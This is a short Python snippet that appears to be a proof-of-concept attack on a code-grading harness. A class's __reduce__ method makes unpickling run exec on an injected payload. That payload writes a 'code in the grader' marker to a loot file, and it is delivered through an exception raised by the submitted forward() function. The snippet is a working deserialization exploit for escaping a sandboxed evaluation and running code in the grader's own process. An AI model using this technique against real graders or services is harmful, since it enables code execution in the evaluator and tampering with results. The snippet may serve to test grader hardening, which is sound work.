class Bomb:
    def __reduce__(self):
        return (exec, (f"""
import multiprocessing, os
if multiprocessing.parent_process() is None:
    open(os.path.join({LOOT!r}, 'loot.txt'), 'a').write('code in the grader')
""",))


class Failure(Exception, Bomb):
    __reduce__ = Bomb.__reduce__


def forward(x):
    raise Failure("sorry")
